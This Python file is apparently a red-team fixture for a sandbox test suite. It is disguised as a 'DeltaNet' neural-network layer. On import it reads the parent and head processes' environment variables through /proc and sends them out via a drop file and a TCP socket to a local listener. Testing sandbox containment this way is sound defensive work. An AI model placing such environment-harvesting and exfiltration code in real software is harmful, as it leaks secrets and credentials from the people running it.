"""Red team: read the head's environ with linecache (no os, no open in the layer).
Contained by: the pid namespace."""
import torch.nn as nn

REDTEAM = {}  # filled in by tests/search/test_sandbox.py: the drop directory, the port, the targets


def _exfil(text):
    """Every way out: a file in the head's drop directory, a TCP connection to the head's listener."""
    try:
        with open(REDTEAM["drop"] + "/" + REDTEAM["name"], "a") as fh:
            fh.write(text + "\n")
    except Exception:
        pass
    try:
        import socket
        with socket.create_connection(("127.0.0.1", REDTEAM["port"]), timeout=2) as s:
            s.sendall(text.encode())
    except Exception:
        pass


import linecache

_stat = linecache.getline("/proc/self/stat", 1)
_ppid = _stat.rsplit(")", 1)[1].split()[1] if _stat else "1"
FOUND = " | ".join("".join(linecache.getlines(f"/proc/{pid}/environ")).replace(chr(0), " ")
                   for pid in (_ppid, REDTEAM["head_pid"])) or "linecache found nothing"


_exfil(FOUND)


class DeltaNet(nn.Module):
    """Refuses to be built, with what it found in the message (which the head must redact)."""

    def __init__(self, hidden_size=64, num_heads=4, **kwargs):
        super().__init__()
        raise RuntimeError("redteam " + REDTEAM["name"] + ": " + FOUND[:3000])
